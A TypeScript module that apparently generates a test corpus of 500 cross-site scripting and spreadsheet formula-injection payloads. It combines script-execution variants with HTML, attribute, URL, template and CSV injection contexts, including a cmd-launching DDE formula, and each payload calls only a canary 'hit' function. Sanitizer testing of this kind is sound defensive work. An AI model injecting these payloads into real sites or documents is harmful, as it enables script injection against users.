/** Each tells when it runs. */
const CODES = [
  'hit()',
  'top.hit()',
  'self[`hit`]()',
  'parent.hit()',
  'window["h"+"it"]()',
  'eval("hit()")',
  'Function("hit()")()',
  'setTimeout(hit)',
  '[1].map(hit)',
  '\\u0068it()',
  '(()=>hit())()',
  'hit``',
  'onerror=hit;throw 1',
  'new Promise(hit)',
  'globalThis.hit()',
  'Reflect.apply(hit,0,[])',
  'frames.hit()',
  '/**/hit()//',
  'void hit()',
  'queueMicrotask(hit)',
] as const;

/** Where text becomes a script when somebody takes it for markup, an address, an attribute or a template. */
const PLACES: ((code: string) => string)[] = [
  (code) => `<script>${code}</script>`,
  (code) => `</script><script>${code}</script>`,
  (code) => `<img src=x onerror='${code}'>`,
  (code) => `"><img src=x onerror='${code}'>`,
  (code) => `'><svg onload='${code}'>`,
  (code) => `<svg><script>${code}</script></svg>`,
  (code) => `<svg><animate onbegin='${code}' attributeName=x dur=1s>`,
  (code) => `<iframe srcdoc="<script>${code.replaceAll('"', '&quot;')}</script>">`,
  (code) => `<iframe src='javascript:${code}'>`,
  (code) => `<details open ontoggle='${code}'>`,
  (code) => `<input autofocus onfocus='${code}'>`,
  (code) => `<video><source onerror='${code}'></video>`,
  (code) => `<body onpageshow='${code}'>`,
  (code) => `<math><mtext></form><form><mglyph><style></math><img src onerror='${code}'>`,
  (code) => `<object data='javascript:${code}'>`,
  (code) => `<a href='javascript:${code}' autofocus>x</a>`,
  (code) => `javascript:${code}`,
  (code) => `data:text/html,<script>${code}</script>`,
  (code) => `{{constructor.constructor('${code.replaceAll("'", '"')}')()}}`,
  (code) => `\${${code}}`,
  (code) => `" onmouseover='${code}' x="`,
  (code) => `\u2028${code}\u2029`,
  // Formulas, as a spreadsheet would run them.
  (code) => `=HYPERLINK("javascript:${code.replaceAll('"', "'")}")`,
  (code) => `@SUM(1+1)*cmd|' /C ${code}'!A0`,
  (code) => `\t+1+"${code.replaceAll('"', '')}"`,
];

/** Five hundred different ones. */
export const PAYLOADS = PLACES.flatMap((place) => CODES.map(place));
